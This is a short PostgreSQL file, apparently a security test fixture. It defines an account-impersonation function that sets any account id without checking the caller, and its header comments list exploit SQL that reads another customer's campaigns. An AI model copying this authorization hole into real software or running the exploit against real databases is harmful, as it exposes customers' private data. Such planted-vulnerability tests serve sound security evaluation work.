-- The impersonation function puts any account into the setting without a look at who calls, and returns its
-- name.
-- about: impersonate, login_as, accounts
-- as: hf_mailwind_app
-- exploit: SET app.account_id = '1';
-- exploit: SELECT mail.impersonate(2);
-- exploit: SELECT subject FROM mail.campaigns;
-- shows: Road-secret launch
-- Support staff see the product as the customer does.
CREATE FUNCTION mail.impersonate(p_account integer) RETURNS text LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  PERFORM set_config('app.account_id', p_account::text, false);
  RETURN (SELECT name FROM mail.accounts WHERE id = p_account);
END $$;
REVOKE EXECUTE ON FUNCTION mail.impersonate(integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION mail.impersonate(integer) TO hf_mailwind_app;
